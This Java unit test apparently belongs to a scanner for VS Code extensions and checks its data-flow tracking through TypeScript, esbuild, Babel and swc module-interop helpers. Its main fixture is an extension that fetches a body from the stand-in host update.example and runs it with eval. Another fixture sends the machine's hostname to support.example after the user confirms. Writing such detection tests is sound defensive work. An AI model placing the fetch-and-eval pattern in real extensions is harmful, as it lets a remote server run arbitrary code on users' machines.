package dev.vsxray.scanner.javascript.flow;

import static org.assertj.core.api.Assertions.assertThat;

import dev.vsxray.scanner.model.Trigger;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Compilers copy a module member by member before they use it; what is called stays that module. */
class InteropCopiesTest {

    private static final String TYPESCRIPT = """
            var __createBinding = (this && this.__createBinding) || (Object.create ? (function(o, m, k, k2) {
                if (k2 === undefined) k2 = k;
                var desc = Object.getOwnPropertyDescriptor(m, k);
                if (!desc || ("get" in desc ? !m.__esModule : desc.writable || desc.configurable)) {
                  desc = { enumerable: true, get: function() { return m[k]; } };
                }
                Object.defineProperty(o, k2, desc);
            }) : (function(o, m, k, k2) {
                if (k2 === undefined) k2 = k;
                o[k2] = m[k];
            }));
            var __setModuleDefault = (this && this.__setModuleDefault) || (Object.create ? (function(o, v) {
                Object.defineProperty(o, "default", { enumerable: true, value: v });
            }) : function(o, v) {
                o["default"] = v;
            });
            """;

    private static final String TYPESCRIPT_5_8 = TYPESCRIPT + """
            var copied = (function () {
                var ownKeys = function(o) {
                    ownKeys = Object.getOwnPropertyNames || function (o) {
                        var ar = [];
                        for (var k in o) if (Object.prototype.hasOwnProperty.call(o, k)) ar[ar.length] = k;
                        return ar;
                    };
                    return ownKeys(o);
                };
                return function (mod) {
                    if (mod && mod.__esModule) return mod;
                    var result = {};
                    if (mod != null) for (var k = ownKeys(mod), i = 0; i < k.length; i++) if (k[i] !== "default") __createBinding(result, mod, k[i]);
                    __setModuleDefault(result, mod);
                    return result;
                };
            })();
            """;

    private static final String TYPESCRIPT_4 = TYPESCRIPT + """
            var copied = function (mod) {
                if (mod && mod.__esModule) return mod;
                var result = {};
                if (mod != null) for (var k in mod) if (k !== "default" && Object.prototype.hasOwnProperty.call(mod, k)) __createBinding(result, mod, k);
                __setModuleDefault(result, mod);
                return result;
            };
            """;

    private static final String ESBUILD = """
            var __create = Object.create, __defProp = Object.defineProperty, __getOwnPropDesc = Object.getOwnPropertyDescriptor;
            var __getOwnPropNames = Object.getOwnPropertyNames, __getProtoOf = Object.getPrototypeOf, __hasOwnProp = Object.prototype.hasOwnProperty;
            var __copyProps = (to, from, except, desc) => {
              if (from && typeof from === "object" || typeof from === "function") {
                for (let key of __getOwnPropNames(from))
                  if (!__hasOwnProp.call(to, key) && key !== except)
                    __defProp(to, key, { get: () => from[key], enumerable: !(desc = __getOwnPropDesc(from, key)) || desc.enumerable });
              }
              return to;
            };
            var copied = (mod, isNodeMode, target) => (target = mod != null ? __create(__getProtoOf(mod)) : {}, __copyProps(
              isNodeMode || !mod || !mod.__esModule ? __defProp(target, "default", { value: mod, enumerable: true }) : target,
              mod
            ));
            """;

    private static final String BABEL = """
            function copied(e, t) {
              if (!t && e && e.__esModule) return e;
              if (null === e || "object" != typeof e && "function" != typeof e) return { default: e };
              var n = { __proto__: null }, a = Object.defineProperty && Object.getOwnPropertyDescriptor;
              for (var u in e) if ("default" !== u && {}.hasOwnProperty.call(e, u)) {
                var i = a ? Object.getOwnPropertyDescriptor(e, u) : null;
                i && (i.get || i.set) ? Object.defineProperty(n, u, i) : n[u] = e[u];
              }
              return n.default = e, n;
            }
            """;

    /** As swc, and Babel before 7.23, write it: a module that was copied before is taken from where it was kept. */
    private static final String WITH_A_CACHE = """
            function cacheOf(nodeInterop) {
              if (typeof WeakMap !== "function") return null;
              var ofBabel = new WeakMap(), ofNode = new WeakMap();
              return (cacheOf = function(nodeInterop) { return nodeInterop ? ofNode : ofBabel; })(nodeInterop);
            }
            function copied(obj, nodeInterop) {
              if (!nodeInterop && obj && obj.__esModule) return obj;
              if (obj === null || typeof obj !== "object" && typeof obj !== "function") return { default: obj };
              var cache = cacheOf(nodeInterop);
              if (cache && cache.has(obj)) return cache.get(obj);
              var newObj = { __proto__: null }, described = Object.defineProperty && Object.getOwnPropertyDescriptor;
              for (var key in obj) if (key !== "default" && Object.prototype.hasOwnProperty.call(obj, key)) {
                var desc = described ? Object.getOwnPropertyDescriptor(obj, key) : null;
                if (desc && (desc.get || desc.set)) Object.defineProperty(newObj, key, desc); else newObj[key] = obj[key];
              }
              newObj.default = obj;
              if (cache) cache.set(obj, newObj);
              return newObj;
            }
            """;

    private static final String USE = """
            const https = copied(require('https'));
            exports.activate = () => https.get('https://update.example/p', response => {
              let body = '';
              response.on('data', chunk => { body += chunk; });
              response.on('end', () => eval(body));
            });
            """;

    @ParameterizedTest
    @ValueSource(strings = {TYPESCRIPT_5_8, TYPESCRIPT_4, ESBUILD, BABEL, WITH_A_CACHE})
    void staysTheModule(String copies) {
        assertThat(Analysis.of(copies + USE).flowNames()).contains("network-response -> code-eval");
    }

    @ParameterizedTest
    @ValueSource(strings = {TYPESCRIPT_5_8, TYPESCRIPT_4, ESBUILD, BABEL, WITH_A_CACHE})
    void isNotAnotherModule(String copies) {
        assertThat(Analysis.of(copies + USE.replace("require('https')", "require('./other')"))
                        .flowNames())
                .isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {TYPESCRIPT_5_8, TYPESCRIPT_4, ESBUILD, BABEL, WITH_A_CACHE})
    void isNothingElseBesides(String copies) {
        Analysis analysis = Analysis.of(copies + """
                const vscode = copied(require('vscode')), again = copied(require('vscode'));
                exports.activate = () => vscode.commands.registerCommand('send', async () => {
                  if (await again.window.showInformationMessage('Send it?', { modal: true }, 'Send')) {
                    fetch('https://support.example/log', { method: 'POST', body: require('os').hostname() });
                  }
                });
                """);

        assertThat(analysis.triggers("account-identity", "network-send")).containsExactly(Trigger.USER_COMMAND);
        assertThat(analysis.guards("account-identity", "network-send")).containsExactly("user-confirmation");
    }
}
